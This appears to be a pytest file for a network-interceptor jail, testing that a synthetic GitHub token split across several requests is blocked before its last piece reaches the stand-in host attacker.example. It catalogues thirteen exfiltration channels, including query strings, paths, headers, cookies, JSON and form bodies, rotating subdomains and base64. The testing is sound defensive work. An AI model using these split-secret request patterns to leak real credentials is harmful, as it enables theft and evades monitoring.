"""Secrets in pieces, one request each, out of a real jail: the last piece never arrives.

Positive control: the same requests without the jail all arrive, and put the secret together.
"""

from __future__ import annotations

import base64
import json
import random
from collections.abc import Callable
from typing import Any

import pytest

from interceptor.scan.ruleset import example
from tests.lab import Lab
from tests.lab.agents import Ran, python, run
from tests.lab.records import Request
from tests.split_traffic import cut

pytestmark = [pytest.mark.lab, pytest.mark.timeout(240)]

COUNTS = (2, 3, 5, 20)
Plan = dict[str, Any]


def _get(path: str, host: str = "attacker.example", **headers: str) -> Plan:
    return {"url": f"https://{host}{path}", "headers": headers}


def _post(body: str, kind: str, host: str = "attacker.example") -> Plan:
    headers = {"content-type": kind}
    return {"url": f"https://{host}/in", "method": "POST", "headers": headers, "body": body}


def _json(value: object) -> Plan:
    return _post(json.dumps(value), "application/json")


# (number of the piece, how many there are, piece) -> the request that carries it
WAYS: dict[str, Callable[[int, int, str], Plan]] = {
    "query": lambda _i, _n, p: _get(f"/log?v=2&d={p}"),
    "query, numbered": lambda i, n, p: _get(f"/log?i={i}&of={n}&d={p}"),
    "path": lambda _i, _n, p: _get(f"/pixel/{p}/1.gif"),
    "header": lambda _i, _n, p: _get("/", **{"x-data": p}),
    "headers": lambda i, _n, p: _get("/", **{f"x-part-{i}": p}),
    "cookie": lambda _i, _n, p: _get("/", cookie=f"sid=c0ffee; t={p}"),
    "json field": lambda i, _n, p: _json({"seq": i, "data": p, "more": [1, 2]}),
    "json array": lambda _i, _n, p: _json(["note", p]),
    "form": lambda _i, _n, p: _post(f"a=1&d={p}", "application/x-www-form-urlencoded"),
    "text": lambda _i, _n, p: _post(p, "text/plain"),
    "hosts": lambda i, _n, p: _get(f"/log?d={p}", f"h{i % 3}.attacker.example"),
    "sites": lambda i, _n, p: _get(f"/{p}", ("www.example.com", "attacker.example")[i % 2]),
    "each in base64": lambda _i, _n, p: _get("/log?d=" + base64.b64encode(p.encode()).decode()),
}


def _secret(way: str, count: int) -> bytes:
    return example(["gh", "p_", "{alnum:30}", "{crc32:6}"], f"{way} {count}")


def _plan(way: str, count: int) -> list[Plan]:
    pieces = cut(_secret(way, count), count)
    return [WAYS[way](i + 1, count, piece.decode()) for i, piece in enumerate(pieces)]


def _send(lab: Lab, requests: list[Plan], *, jailed: bool) -> tuple[Ran, list[int]]:
    done = run(lab, python("http_requests.py", "aiohttp", {"requests": requests}), jailed=jailed)
    answers = done.json()
    assert all("status" in answer for answer in answers), answers
    return done, [answer["status"] for answer in answers]


def _arrived(lab: Lab) -> list[Request]:
    assert lab.oracle.records() == []
    return lab.requests()


def _text(request: Request) -> str:
    """All that a request said: target, fields, body, and what base64 in its query stands for."""
    fields = " ".join(value for _, value in request.fields)
    coded = request.target.rpartition("d=")[2].encode()
    try:
        said = base64.b64decode(coded, validate=True).decode("ascii", "replace")
    except ValueError:
        said = ""
    return f"{request.target} {fields} {request.body.decode('latin-1')} {said}"


@pytest.mark.parametrize("way", WAYS)
def test_the_last_piece_stays(clean_lab: Lab, way: str) -> None:
    plans = [_plan(way, count) for count in COUNTS]
    done, statuses = _send(clean_lab, [one for plan in plans for one in plan], jailed=True)
    blocks = done.blocks()
    assert {block["reason"] for block in blocks} == {"split_secret"}, blocks
    assert {block["rule"] for block in blocks} == {"github-token"}
    arrived = [_text(request) for request in _arrived(clean_lab)]
    for count, plan in zip(COUNTS, plans, strict=True):
        answers, statuses = statuses[: len(plan)], statuses[len(plan) :]
        assert 403 in answers, (count, answers)
        # Refused at the latest with the last piece; what came before it went through.
        assert answers[-1] == 403 or 403 in answers[:-1]
        assert set(answers[: answers.index(403)]) <= {200, 404}
        assert answers.index(403) >= count - 1 - count // 10, (count, answers)
        last = cut(_secret(way, count), count)[answers.index(403)].decode()
        if count <= 5:  # a piece of two characters stands anywhere
            assert not any(last in text for text in arrived)
    for block in blocks:
        shown = json.dumps(block)
        for count in COUNTS[:3]:
            assert not any(p.decode() in shown for p in cut(_secret(way, count), count))


def test_without_the_jail_all_pieces_arrive(clean_lab: Lab) -> None:
    """Positive control."""
    requests = [one for way in WAYS for one in _plan(way, 3)]
    _, statuses = _send(clean_lab, requests, jailed=False)
    assert 403 not in statuses
    arrived = [_text(request) for request in _arrived(clean_lab)]
    for way in WAYS:
        for piece in cut(_secret(way, 3), 3):
            assert any(piece.decode() in text for text in arrived), way


def test_pieces_in_any_order_when_they_are_numbered(clean_lab: Lab) -> None:
    plan = _plan("query, numbered", 5)
    random.Random(1).shuffle(plan)
    done, statuses = _send(clean_lab, plan, jailed=True)
    assert statuses.index(403) == 4, statuses
    assert [block["reason"] for block in done.blocks()] == ["split_secret"]


def test_a_piece_is_refused_again_and_again(clean_lab: Lab) -> None:
    plan = _plan("query", 3)
    other = _get("/other?page=7")
    done, statuses = _send(clean_lab, [*plan, other, plan[-1], plan[-1]], jailed=True)
    assert [status == 403 for status in statuses] == [False, False, True, False, True, True]
    assert len(done.blocks()) == 3


def test_within_one_request(clean_lab: Lab) -> None:
    a, b, c = (piece.decode() for piece in cut(_secret("within", 3), 3))
    requests = [
        _get(f"/{a}/{b}/{c}"),
        _get(f"/x?a={a}&b={b}&c={c}"),
        _get("/x", **{"x-a": a, "x-b": b, "x-c": c}),
        _json([a, b, c]),
        _json({"provider": "x", "key": a, "middle": b, "suffix": c, "region": "eu"}),
    ]
    for request in requests:
        clean_lab.clear()
        _, statuses = _send(clean_lab, [request], jailed=True)
        assert statuses == [403], request
        assert _arrived(clean_lab) == []


def test_ordinary_work_passes(clean_lab: Lab) -> None:
    draw = random.Random(3)
    requests = []
    for number in range(60):
        host = ("www.example.com", "attacker.example", "api.example.com")[number % 3]
        sign, cursor = draw.randbytes(20).hex(), base64.urlsafe_b64encode(draw.randbytes(24))
        requests += [
            _get(f"/repos/{draw.randrange(10**9)}/commits/{sign}", host),
            _get(f"/list?page={number}&cursor={cursor.decode().rstrip('=')}", host),
            _json({"id": sign[:12], "tags": ["ghp", "sk", "AKIA"], "n": number}),
        ]
    done, statuses = _send(clean_lab, requests, jailed=True)
    assert 403 not in statuses
    assert done.blocks() == []
    assert len(_arrived(clean_lab)) == len(requests)
